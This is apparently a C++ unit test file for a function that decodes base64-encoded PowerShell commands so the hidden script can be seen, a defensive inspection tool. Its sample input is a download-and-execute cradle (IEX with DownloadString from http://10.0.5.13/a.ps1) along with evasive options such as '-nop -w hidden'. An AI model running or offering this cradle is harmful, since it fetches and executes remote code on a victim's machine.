// SPDX-License-Identifier: EUPL-1.2
#include "base/encoded_command.h"

#include <gtest/gtest.h>

#include <string>

#include "base/base64.h"
#include "base/text.h"

namespace beffroi::base {
namespace {

constexpr std::string_view kScript = "IEX (New-Object Net.WebClient).DownloadString('http://10.0.5.13/a.ps1')";

std::string wide(std::string_view text) { return base64(as_bytes(utf8_to_utf16le(text))); }

TEST(EncodedCommand, EveryFormOfTheOptionIsSeenThrough) {
  for (const auto* option :
       {"-enc ", "-e ", "-EC ", "/EncodedCommand ", "-EncodedCommand \"", "-nop -w hidden -eNcOd ", "\u2013enc "})
    EXPECT_EQ(hidden_text("powershell.exe " + (option + wide(kScript)), 200), kScript) << option;
}

TEST(EncodedCommand, WhatACallDecodesIsSeenThroughInBothEncodings) {
  const std::string plain = base64(as_bytes(kScript));
  EXPECT_EQ(hidden_text("IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String(\"" + plain + "\")))", 200), kScript);
  EXPECT_EQ(hidden_text("[Convert]::FromBase64String('" + wide(kScript) + "')", 200), kScript);
}

TEST(EncodedCommand, OtherTextsAndOtherBytesHideNothing) {
  const std::string packed("\x1f\x8b\x08\x00\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0c", 14);
  EXPECT_EQ(hidden_text("", 200), "");
  EXPECT_EQ(hidden_text("powershell -enc", 200), "");
  EXPECT_EQ(hidden_text("copy C:/Users/Public/Documents/rapport annuel -enc", 200), "");
  EXPECT_EQ(hidden_text("findstr " + wide(kScript), 200), "") << "no option stands before it";
  EXPECT_EQ(hidden_text("findstr /e abcdefghijklmnopqrstuvwxyz", 200), "") << "no text";
  EXPECT_EQ(hidden_text("FromBase64String(\"" + base64(as_bytes(packed)) + "\")", 200), "");
}

TEST(EncodedCommand, LongTextsAreCutBetweenCharacters) {
  const std::string accents = "é€é€é€é€" + std::string(kScript);
  EXPECT_EQ(hidden_text("powershell -enc " + wide(kScript), 3), "IEX…");
  for (std::size_t most = 1; most < 24; ++most) {
    const std::string text = hidden_text("FromBase64String(\"" + base64(as_bytes(accents)) + "\")", most);
    EXPECT_TRUE(is_valid_utf8(text)) << most;
    EXPECT_LE(text.size(), most + std::string_view("…").size());
    EXPECT_TRUE(text.ends_with("…")) << most;
  }
  const std::string whole = "powershell -enc " + wide(kScript);
  for (std::size_t length = whole.size(); length > 60; --length)
    EXPECT_TRUE(std::string_view(kScript).starts_with(hidden_text(whole.substr(0, length), 200))) << length;
}

}  // namespace
}  // namespace beffroi::base
